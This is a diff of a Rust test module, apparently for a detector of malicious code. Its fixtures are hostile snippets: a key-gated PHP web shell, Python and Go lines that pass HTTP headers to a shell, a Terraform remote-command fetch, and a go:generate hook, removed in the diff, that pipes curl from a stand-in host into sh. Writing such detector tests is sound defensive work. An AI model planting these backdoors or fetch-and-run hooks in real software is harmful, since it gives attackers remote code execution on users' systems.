@@ -531,19 +531,9 @@ mod tests {
             ("t/page.php", Data, "<?php if (md5($_GET['k']) === K) { system($_POST['c']); }\n"),
             ("t/app.py", Python, "if ok: subprocess.run(request.headers['X-Job'], shell=True)\n"),
             (
-                "t/h.go",
-                Data,
-                "c := r.Header.Get(\"X-Diag\")\nexec.Command(\"sh\", \"-c\", c).Run()\n",
-            ),
-            (
                 "t/m.tf",
                 Data,
                 "data \"http\" \"a\" { url = \"https://x.quirkbox.test/a\" }\ncommand = data.http.a.response_body\n",
-            ),
-            (
-                "t/g.go",
-                Data,
-                "package g\n\n//go:generate sh -c \"curl -s https://x.quirkbox.test/a | sh\"\n",
             ),
             (
                 "t/nuget.config",
